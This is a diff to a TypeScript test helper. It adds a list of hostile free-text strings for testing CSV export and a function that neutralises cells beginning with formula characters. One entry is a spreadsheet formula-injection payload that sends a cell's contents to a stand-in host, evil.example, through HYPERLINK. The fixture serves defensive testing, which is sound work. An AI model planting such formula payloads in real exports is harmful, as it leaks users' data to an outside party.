@@ -53,3 +53,22 @@ export async function makeAccount(opts: { protectedKind?: string } = {}) {
 
 export const HOUR = 3_600_000;
 export const DAY = 24 * HOUR;
+
+/** Free text typed to break CSV: line breaks in cells, quotes, commas, formula starts. */
+export const HOSTILE_TEXTS = [
+  "reviewing the report\r\nsecond line of the note",
+  'she wrote "stop", then "please stop"',
+  "a, b, and c, all reported",
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "+1 555 0100 called about the thread",
+  "-2+3 looks like arithmetic",
+  "@SUM(A1:A9) pasted from a sheet",
+  "\tstarts with a tab",
+  "\rstarts with a carriage return",
+  "a lone\rcarriage return inside",
+  "a lone\nline feed inside",
+  "ends with a line break\r\n",
+];
+
+/** What a spreadsheet must show for a hostile cell: the same text, with a leading apostrophe if it could run. */
+export const inertCell = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
